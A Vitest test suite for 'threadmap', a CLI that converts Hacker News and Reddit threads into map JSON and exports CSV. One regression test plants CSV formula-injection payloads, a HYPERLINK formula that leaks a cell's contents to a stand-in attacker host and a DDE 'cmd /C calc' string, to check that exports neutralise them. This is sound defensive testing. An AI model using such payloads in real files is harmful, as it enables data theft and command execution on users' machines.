import { spawnSync } from 'node:child_process';
import { closeSync, openSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { openDocument } from '../core/document/open-document';
import { exporters } from '../core/export';
import { readRegularFile } from './node-io';
import { runCli, type CliIo } from './run-cli';

const NOW = '2026-11-26T14:00:00.000Z';
const fixture = (name: string) => fileURLToPath(new URL(`../../test/fixtures/${name}`, import.meta.url));
const HN = fixture('hn-algolia-derived_14952787_first-3-top-level.json');
const REDDIT = fixture('reddit_r-redditdev_2ujhkr_comments_reddift.json');

/** Real files for reading, an in-memory folder for writing, captured stdout and stderr. */
function testIo(extraFiles: Record<string, string | Uint8Array> = {}) {
  const written = new Map<string, string>();
  const out: string[] = [];
  const err: string[] = [];
  const bytes = (value: string | Uint8Array) => (typeof value === 'string' ? new TextEncoder().encode(value) : value);
  const io: CliIo = {
    readInput: async (path, maxBytes) => (Object.hasOwn(extraFiles, path) ? { kind: 'bytes', bytes: bytes(extraFiles[path]!) } : readRegularFile(path, maxBytes)),
    writeFile: async (path, text) => void written.set(path, text),
    stdout: (text) => void out.push(text),
    stderr: (text) => void err.push(text),
    now: () => NOW,
  };
  return { io, written, stdout: () => out.join(''), stderr: () => err.join('') };
}

async function run(argv: string[], files?: Record<string, string | Uint8Array>) {
  const t = testIo(files);
  const code = await runCli(argv, t.io);
  return { code, stdout: t.stdout(), stderr: t.stderr(), written: t.written };
}

describe('threadmap convert', () => {
  it('writes the threadmap JSON of a real HN thread to stdout', async () => {
    const { code, stdout, stderr } = await run(['convert', HN]);
    expect(code).toBe(0);
    // The one warning: Algolia's tombstones may be deleted or dead.
    expect(stderr).toMatch(/^threadmap: warning: [^\n]*: 33 comments come as an id and replies only, [^\n]*some may be dead[^\n]*\n$/);
    const doc = JSON.parse(stdout) as { exportedAt: string; nodes: { id: string }[]; source: { kind: string } };
    expect(doc.exportedAt).toBe(NOW);
    expect(doc.source.kind).toBe('hn');
    expect(doc.nodes).toHaveLength(579);
    expect(doc.nodes[0]!.id).toBe('14952787');
  });

  it('writes to the file named by -o and records the source URL and retrieval time given', async () => {
    const { code, stdout, written } = await run(['convert', REDDIT, '-o', 'out.json', '--source-url', 'https://www.reddit.com/r/redditdev/comments/2ujhkr.json', '--retrieved-at', '2015-02-03T10:00:00Z']);
    expect(code).toBe(0);
    expect(stdout).toBe('');
    const opened = openDocument(JSON.parse(written.get('out.json')!));
    expect(opened.ok && opened.value.nodes).toHaveLength(73);
    expect(opened.ok && opened.value.source.retrievedAt).toBe('2015-02-03T10:00:00Z');
  });

  it('converts a plain-text thread, keeping the guessed-structure flag', async () => {
    const { code, stdout } = await run(['convert', fixture('hn-text_eggos-unikernel-thread.txt')]);
    expect(code).toBe(0);
    const doc = JSON.parse(stdout) as { source: Record<string, unknown>; nodes: { id: string; parent: string | null }[] };
    expect(doc.source).toMatchObject({ kind: 'text', structureGuessed: true, title: 'A Go unikernel running on x86 bare metal' });
    expect(doc.nodes[0]!.parent).toBeNull();
  });

  it('converts a threadmap file into the same map', async () => {
    const first = await run(['convert', HN]);
    const second = await run(['convert', 'map.json'], { 'map.json': first.stdout });
    expect(second.code).toBe(0);
    expect(second.stdout).toBe(first.stdout);
  });

  it('prints warnings about repaired input to stderr, unless --quiet', async () => {
    const map = JSON.parse((await run(['convert', HN])).stdout) as { nodes: { parent: string | null }[] };
    map.nodes[5]!.parent = 'gone';
    const files = { 'map.json': JSON.stringify(map) };
    const loud = await run(['convert', 'map.json'], files);
    expect(loud.code).toBe(0);
    expect(loud.stderr).toBe('threadmap: warning: map.json: nodes[5].parent "gone" is not in the map; such nodes are shown under the root.\n');
    expect((await run(['convert', '-q', 'map.json'], files)).stderr).toBe('');
  });

  it('exits 1 with the app\'s sentence for input it cannot open', async () => {
    const cases: [Record<string, string | Uint8Array>, string][] = [
      [{ 'empty.json': '' }, 'The file is empty.'],
      [{ 'image.png': new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]) }, 'The file is not text'],
      [{ 'package.json': '{"name": "threadmap", "version": "0.1.0"}' }, 'This JSON is not a thread format Threadmap knows.'],
      [{ 'new.json': '{"format": "threadmap", "version": 4, "source": {}, "nodes": []}' }, 'This map was saved by a newer version of Threadmap (file format version 4).'],
    ];
    for (const [files, sentence] of cases) {
      const name = Object.keys(files)[0]!;
      const { code, stdout, stderr } = await run(['convert', name], files);
      expect(code).toBe(1);
      expect(stdout).toBe('');
      expect(stderr.startsWith(`threadmap: ${name}: ${sentence}`)).toBe(true);
    }
  });

  it('reads UTF-16 files of either byte order by their byte order mark', async () => {
    const text = await readFile(REDDIT, 'utf8');
    const le = new Uint8Array([0xff, 0xfe, ...Buffer.from(text, 'utf16le')]);
    const be = new Uint8Array([0xfe, 0xff, ...Buffer.from(text, 'utf16le').swap16()]);
    const utf8 = JSON.parse((await run(['convert', REDDIT])).stdout) as { nodes: unknown[] };
    for (const bytes of [le, be]) {
      const { code, stdout, stderr } = await run(['convert', 'thread.json'], { 'thread.json': bytes });
      expect(stderr).toBe('');
      expect(code).toBe(0);
      expect((JSON.parse(stdout) as { nodes: unknown[] }).nodes).toEqual(utf8.nodes);
    }
  });

  it('opens a file with invalid UTF-8 but says that bytes were replaced', async () => {
    const text = Buffer.from('Alice wrote this.\n\nBob: caf\xe9 is good.\n', 'latin1');
    const { code, stderr } = await run(['convert', 'latin1.txt'], { 'latin1.txt': new Uint8Array(text) });
    expect(code).toBe(0);
    expect(stderr).toContain('threadmap: warning: latin1.txt: Some bytes of the file are not valid UTF-8 and were replaced');
  });

  it('exits 1 when the file does not exist', async () => {
    const { code, stderr } = await run(['convert', fixture('no-such-thread.json')]);
    expect(code).toBe(1);
    expect(stderr).toContain('The file could not be read (no such file).');
  });

  it('exits 1 when the output cannot be written', async () => {
    const t = testIo();
    t.io.writeFile = () => Promise.reject(Object.assign(new Error('EACCES'), { code: 'EACCES' }));
    expect(await runCli(['convert', HN, '-o', '/root/map.json'], t.io)).toBe(1);
    expect(t.stderr().split('\n').filter((line) => !line.startsWith('threadmap: warning: '))).toEqual(['threadmap: /root/map.json: The file could not be written (permission denied).', '']);
  });
});

describe('threadmap export', () => {
  it('[regression] writes CSV cells that a spreadsheet would run as formulas as text, and as they are with --raw', async () => {
    const map = JSON.parse((await run(['convert', REDDIT])).stdout) as { nodes: { text: string; author: string }[] };
    map.nodes[1]!.text = '=HYPERLINK("https://evil.invalid/?"&A1,"click")';
    map.nodes[2]!.author = '@SUM(1+1)*cmd|\' /C calc\'!A0';
    const files = { 'map.json': JSON.stringify(map) };
    const safe = (await run(['export', '--format', 'csv', 'map.json'], files)).stdout;
    expect(safe).toContain(`"'=HYPERLINK(""https://evil.invalid/?""&A1,""click"")"`);
    expect(safe).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
    const raw = await run(['export', '--format', 'csv', '--raw', 'map.json'], files);
    expect(raw.code).toBe(0);
    expect(raw.stdout).toContain(`,"=HYPERLINK(""https://evil.invalid/?""&A1,""click"")"`);
    expect(raw.stdout).toContain(`,@SUM(1+1)*cmd|' /C calc'!A0,`);
  });


  it('runs the JSON exporter over a thread file, converting it first', async () => {
    const { code, stdout } = await run(['export', '--format', 'json', REDDIT]);
    expect(code).toBe(0);
    const doc = JSON.parse(stdout) as { format: string; nodes: unknown[] };
    expect(doc.format).toBe('threadmap');
    expect(doc.nodes).toHaveLength(73);
  });

  it('offers every exporter of the registry, each writing something for a real thread', async () => {
    for (const exporter of exporters) {
      const { code, stdout, stderr } = await run(['export', '--format', exporter.format, REDDIT]);
      expect(code, exporter.format).toBe(0);
      expect(stderr).toBe('');
      expect(stdout.length).toBeGreaterThan(100);
    }
  });

  it('runs an exporter over a threadmap file, keeping its annotations', async () => {
    const map = JSON.parse((await run(['convert', REDDIT])).stdout) as { annotations: Record<string, unknown> };
    map.annotations = { t1_cq21eh6: { tag: 'question', note: 'Which clients count as commercial?', updatedAt: NOW, coder: 'Ana' } };
    const { code, written } = await run(['export', '--format=json', 'map.json', '-o', 'out.json'], { 'map.json': JSON.stringify(map) });
    expect(code).toBe(0);
    expect(JSON.parse(written.get('out.json')!).annotations).toEqual(map.annotations);
  });
});

describe('--format-version', () => {
  it('writes version 3 by default and version 1 or 2 when asked, each of which opens again', async () => {
    const v2 = await run(['convert', REDDIT]);
    expect(JSON.parse(v2.stdout)).toMatchObject({ version: 3, coder: null });
    const older = await run(['convert', REDDIT, '--format-version', '2']);
    expect(JSON.parse(older.stdout)).toMatchObject({ version: 2, coder: null });
    const v1 = await run(['convert', REDDIT, '--format-version', '1']);
    expect(v1.code).toBe(0);
    const file = JSON.parse(v1.stdout) as Record<string, unknown>;
    expect(file.version).toBe(1);
    expect('coder' in file).toBe(false);
    const [fromV1, fromV2] = [openDocument(file), openDocument(JSON.parse(v2.stdout))];
    if (!fromV1.ok || !fromV2.ok) throw new Error('a converted file did not open');
    expect(fromV1.value).toEqual(fromV2.value);
    const exported = await run(['export', '--format', 'json', '--format-version', '1', REDDIT]);
    expect(JSON.parse(exported.stdout).version).toBe(1);
  });

  it('exits 2 for a version it cannot write or a format that has no versions', async () => {
    expect((await run(['convert', REDDIT, '--format-version', '4'])).code).toBe(2);
    const csv = await run(['export', '--format', 'csv', '--format-version', '1', REDDIT]);
    expect(csv.code).toBe(2);
    expect(csv.stderr).toContain('--format-version applies to threadmap JSON only');
  });
});

describe('threadmap usage', () => {
  it('prints help and the version', async () => {
    expect(await run(['--help'])).toMatchObject({ code: 0, stderr: '' });
    const help = (await run(['--help'])).stdout;
    expect(help).toContain('threadmap convert <thread-file> [-o map.json]');
    expect(help).toContain('Reddit (comments .json)');
    expect(help).toContain('json        threadmap JSON');
    expect(help).toContain('coders-csv  Coders’ table for analysis (one row per comment × coder)');
    expect(help).toContain('threadmap combine <coder-a.json> <coder-b.json>');
    expect(await run(['--version'])).toMatchObject({ code: 0, stdout: 'threadmap 0.1.0\n' });
  });

  it('exits 2 for command-line mistakes, saying what is wrong', async () => {
    const cases: [string[], string][] = [
      [[], 'no command given'],
      [['render', HN], 'unknown command "render"'],
      [['convert'], 'convert needs a file to read'],
      [['convert', HN, REDDIT], 'convert reads one file'],
      [['convert', '--frobnicate', HN], 'Unknown option'],
      [['export', HN], 'export needs --format (one of: json'],
      [['export', '--format', 'docx', HN], 'unknown export format "docx"'],
      [['convert', '--retrieved-at', 'yesterday', HN], '--retrieved-at "yesterday" is not an ISO 8601 time'],
      [['convert', '--raw', HN], '--raw is an export option'],
    ];
    for (const [argv, problem] of cases) {
      const { code, stdout, stderr } = await run(argv);
      expect(code, argv.join(' ')).toBe(2);
      expect(stdout).toBe('');
      expect(stderr).toContain(problem);
      expect(stderr).toContain('Run "threadmap --help" for usage.');
    }
  });
});

describe('the threadmap command', () => {
  const bin = fileURLToPath(new URL('../../bin/threadmap.mjs', import.meta.url));

  it('prints its version through the launcher', () => {
    const result = spawnSync(process.execPath, [bin, '--version'], { encoding: 'utf8' });
    expect(result.stderr).toBe('');
    expect(result.stdout).toBe('threadmap 0.1.0\n');
    expect(result.status).toBe(0);
  });

  it('[regression] refuses a device, a directory and endless standard input without filling memory', () => {
    const device = spawnSync(process.execPath, [bin, 'convert', '/dev/zero'], { encoding: 'utf8' });
    expect(device.status).toBe(1);
    expect(device.stderr).toBe('threadmap: /dev/zero: This is a device, not a file; Threadmap reads regular files, or standard input with "-".\n');
    const folder = spawnSync(process.execPath, [bin, 'convert', 'test'], { encoding: 'utf8' });
    expect(folder.stderr).toBe('threadmap: test: This is a directory, not a file; Threadmap reads regular files, or standard input with "-".\n');
    const zero = openSync('/dev/zero', 'r');
    try {
      const stdin = spawnSync(process.execPath, [bin, 'convert', '-'], { encoding: 'utf8', stdio: [zero, 'pipe', 'pipe'] });
      expect(stdin.status).toBe(1);
      expect(stdin.stderr).toBe('threadmap: standard input: The input is larger than the 100 MB Threadmap opens; reading stopped there. Open a smaller export of the thread.\n');
    } finally {
      closeSync(zero);
    }
  });

  it('writes the CSVs for spreadsheets with a UTF-8 byte order mark and the exact ones (--raw) without, byte for byte', () => {
    const BOM = [0xef, 0xbb, 0xbf];
    for (const format of ['csv', 'coders-csv']) {
      const bytes = (raw: boolean) => {
        const result = spawnSync(process.execPath, [bin, 'export', '--format', format, ...(raw ? ['--raw'] : []), HN]);
        expect(result.status, format).toBe(0);
        return result.stdout as Buffer;
      };
      const forSpreadsheets = bytes(false);
      const exact = bytes(true);
      expect([...forSpreadsheets.subarray(0, 3)], format).toEqual(BOM);
      expect([...exact.subarray(0, 3)], format).not.toEqual(BOM);
      // Past the mark the header is the same plain ASCII line in both.
      const header = exact.subarray(0, exact.indexOf('\r\n'));
      expect(header.toString('latin1'), format).toMatch(/^[a-z][\w,]+$/i);
      expect(forSpreadsheets.subarray(3, 3 + header.length).equals(header), format).toBe(true);
    }
  });

  it('converts a real thread file and refuses a missing one with exit status 1', () => {
    const converted = spawnSync(process.execPath, [bin, 'convert', fixture('hn-algolia_items-17_2014_node-hacker-news-api.json')], { encoding: 'utf8' });
    expect(converted.status).toBe(0);
    const doc = JSON.parse(converted.stdout) as { nodes: { id: string; author: string }[] };
    expect(doc.nodes.map((node) => [node.id, node.author])).toEqual([['17', 'pg'], ['1079', 'dmon'], ['454426', 'Arrington']]);
    const missing = spawnSync(process.execPath, [bin, 'convert', 'no-such-file.json'], { encoding: 'utf8' });
    expect(missing.status).toBe(1);
    expect(missing.stderr).toBe('threadmap: no-such-file.json: The file could not be read (no such file).\n');
  });
});
